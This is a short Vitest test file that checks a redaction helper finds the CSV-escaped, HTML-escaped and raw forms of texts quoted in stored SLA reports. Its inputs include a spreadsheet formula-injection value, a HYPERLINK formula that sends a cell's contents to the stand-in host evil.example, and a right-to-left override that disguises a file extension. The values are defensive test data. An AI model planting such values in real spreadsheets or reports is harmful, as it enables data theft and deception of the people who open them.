import { describe, expect, it } from 'vitest';
import { csvCell } from '../reports/render-csv.js';
import { escapeHtml } from '../reports/render-html.js';
import { textForms } from './redact.js';

describe('textForms: every way a stored SLA report quotes a text', () => {
  it.each([
    ['Refund;=cmd 9zqxv'],
    ['\t=HYPERLINK("http://evil.example/?"&A1) 9zqxv'],
    ['-5 % for 9zqxv'],
    ['<b>9zqxv</b> & "friends"'],
    ['\u202Egnp.9zqxv'],
  ])('finds %j as the report CSV and HTML wrote it', (text) => {
    const forms = textForms(text);
    expect(forms).toContain(csvCell(text).slice(1, -1));
    expect(forms).toContain(escapeHtml(text));
    expect(forms).toContain(text);
  });

  it('has nothing to find in blank text', () => {
    expect(textForms('  ')).toEqual([]);
  });
});
